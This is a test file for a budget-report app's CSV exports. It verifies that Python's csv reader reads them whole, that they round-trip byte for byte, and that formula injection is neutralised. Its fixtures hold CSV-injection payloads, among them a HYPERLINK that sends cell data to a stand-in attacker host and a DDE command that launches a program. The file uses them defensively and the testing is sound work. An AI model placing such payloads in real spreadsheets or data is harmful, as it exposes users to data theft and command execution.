/**
 * Every CSV Sosei writes (the admin's download over HTTP, `pnpm export`, the anonymous open
 * data) as a standard reader and a spreadsheet meet it (issue 17 #2, #3): read back with
 * Python's csv module, not Sosei's importer, each file has one record per row with the
 * header's field count and the stored text (multi-line, quotes, commas) intact; no text cell
 * begins with a character that makes a spreadsheet evaluate it; and import → export keeps
 * every byte.
 */
import { execFileSync } from "node:child_process";
import fs from "node:fs";
import os from "node:os";
import path from "node:path";
import type { PrismaClient } from "../../server/src/db/database";
import { guardFormula, unguardFormula } from "../../server/src/io/tables/formula-guard";
import { openApi, type Api } from "../helpers/api";
import { backends } from "../helpers/databases";
import { openDb, type OpenDb } from "../seed/seed-db";
import { baseOf, cookieOf, get } from "../helpers/http";
import { copyMasterData, exportCsvFiles, fileOf, importAll, userOf } from "./io-helpers";

const HOSTILE = {
  name: '=HYPERLINK("http://attacker.invalid/?x="&A1,"詳細")',
  summary: "+81-166-00-0000",
  mainResults: '-誤りの例\n二行目, 引用 "ここ"',
  reason: "@SUM(1+1)*cmd|' /C calc'!A0",
  policyReason: '一段落目の理由、"引用"を含む。\n\n二段落目の理由。',
  quoted: "'=既に引用符付き",
};
const TABLES = ["reports", "programs", "kpis"] as const;
/** FY R2 as seeded: 5 reports, 21 programs, 16 KPIs. */
const ROWS = { reports: 5, programs: 21, kpis: 16 };
const EVALUATED = /^[=+\-@\t\r]/;
const NUMBER = /^-?\d+(\.\d+)?$/;

async function prepare(prisma: PrismaClient) {
  const report = await prisma.report.findFirstOrThrow({
    where: { fiscalYear: 2020 },
    orderBy: { id: "asc" },
    include: { programs: { orderBy: { position: "asc" } } },
  });
  const [first, second] = report.programs;
  await prisma.budgetProgram.update({
    where: { id: first!.id },
    data: { name: HOSTILE.name, summary: HOSTILE.summary, mainResults: HOSTILE.mainResults },
  });
  await prisma.budgetProgram.update({
    where: { id: second!.id },
    data: { summary: HOSTILE.quoted, mainResults: HOSTILE.reason },
  });
  await prisma.futurePolicy.update({
    where: { reportId: report.id },
    data: { reason: HOSTILE.policyReason },
  });
}

/** Python's csv module reads the bytes (UTF-8 with BOM); the records as JSON. */
function pythonRecords(bytes: Buffer): string[][] {
  const file = path.join(fs.mkdtempSync(path.join(os.tmpdir(), "sosei-csv-")), "t.csv");
  fs.writeFileSync(file, bytes);
  const script = `import csv, json, sys
with open(sys.argv[1], newline="", encoding="utf-8-sig") as f:
    print(json.dumps(list(csv.reader(f, strict=True))))`;
  const out = execFileSync("python3", ["-c", script, file], { encoding: "utf8" });
  fs.rmSync(path.dirname(file), { recursive: true });
  return JSON.parse(out) as string[][];
}

function expectSafeAndWhole(table: (typeof TABLES)[number], bytes: Buffer): string[][] {
  const records = pythonRecords(bytes);
  expect([table, records.length]).toEqual([table, 1 + ROWS[table]]);
  const width = records[0]!.length;
  for (const record of records) expect([table, record.length]).toEqual([table, width]);
  for (const value of records.flat()) {
    if (EVALUATED.test(value)) expect([table, value]).toEqual([table, value.match(NUMBER)?.[0]]);
  }
  return records;
}

describe("the formula guard", () => {
  it("guards exactly what a spreadsheet evaluates, and unguards it back", () => {
    for (const text of ["=1+1", "+1", "-x", "@A1", "\tx", "\rx", "'=x", "''+x"]) {
      expect(guardFormula(text)).toBe(`'${text}`);
      expect(unguardFormula(guardFormula(text))).toBe(text);
    }
    for (const text of ["旭川", "'quoted", "a=b", "", "1-2"]) {
      expect(guardFormula(text)).toBe(text);
      expect(unguardFormula(text)).toBe(text);
    }
  });
});

describe.each(backends().map((b) => [b.name, b] as const))("CSV safety (%s)", (_name, backend) => {
  let api: Api;
  let sudo: OpenDb;
  let finance: string;

  beforeAll(async () => {
    api = await openApi(backend, "seeded", { reportStatus: "PUBLISHED", prepare });
    finance = await cookieOf(api, "finance");
  });
  afterAll(async () => {
    await api.close();
    await sudo?.close();
  });

  const download = async (table: string) => {
    const response = await fetch(`${baseOf(api)}/api/exports/2020/${table}.csv`, {
      headers: { cookie: finance, "sec-fetch-site": "same-origin" },
    });
    expect(response.status).toBe(200);
    return Buffer.from(await response.arrayBuffer());
  };

  it("the admin's download: whole records for Python's csv, no live formula", async () => {
    const programs = expectSafeAndWhole("programs", await download("programs"));
    const reports = expectSafeAndWhole("reports", await download("reports"));
    expectSafeAndWhole("kpis", await download("kpis"));
    const cells = programs.flat();
    expect(cells).toContain(`'${HOSTILE.name}`);
    expect(cells).toContain(`'${HOSTILE.summary}`);
    expect(cells).toContain(`'${HOSTILE.mainResults}`);
    expect(cells).toContain(`''${HOSTILE.quoted.slice(1)}`);
    expect(cells).toContain(`'${HOSTILE.reason}`);
    expect(reports.flat()).toContain(HOSTILE.policyReason);
    // Numbers stay numbers: the 予算額 column is digits.
    const budget = programs[0]!.indexOf("予算額");
    for (const row of programs.slice(1)) expect(row[budget]).toMatch(NUMBER);
  });

  it("the anonymous open data: whole records for Python's csv, no live formula", async () => {
    for (const table of TABLES) {
      const response = await get(api, `/public/fiscal-years/2020/${table}.csv`);
      expect(response.status).toBe(200);
      const records = expectSafeAndWhole(table, Buffer.from(await response.arrayBuffer()));
      if (table === "programs") expect(records.flat()).toContain(`'${HOSTILE.name}`);
      if (table === "reports") expect(records.flat()).toContain(HOSTILE.policyReason);
    }
  });

  it("pnpm export's files: the same, and import → export gives identical bytes", async () => {
    sudo = await openDb(backend, "empty");
    const source = await openDb(backend, "seeded");
    let csv: Awaited<ReturnType<typeof exportCsvFiles>>;
    try {
      await prepare(source.prisma);
      csv = await exportCsvFiles(source.prisma);
      // An import never creates master data: the system administrator registers it first.
      await copyMasterData(source.prisma, sudo.prisma);
    } finally {
      await source.close();
    }
    for (const table of TABLES) expectSafeAndWhole(table, csv[table]);
    // Published reports into a new database: the system administrator's take-over.
    const result = await importAll(
      sudo.prisma,
      TABLES.map((t) => fileOf(`${t}.csv`, csv[t])),
      { actor: await userOf(sudo.prisma, ["ADMIN"]), archive: true },
    );
    expect(result.errorCount).toBe(0);
    const program = await sudo.prisma.budgetProgram.findFirstOrThrow({
      where: { name: HOSTILE.name },
    });
    expect(program).toMatchObject({ summary: HOSTILE.summary, mainResults: HOSTILE.mainResults });
    const again = await exportCsvFiles(sudo.prisma);
    for (const table of TABLES)
      expect([table, again[table].equals(csv[table])]).toEqual([table, true]);
  });
});
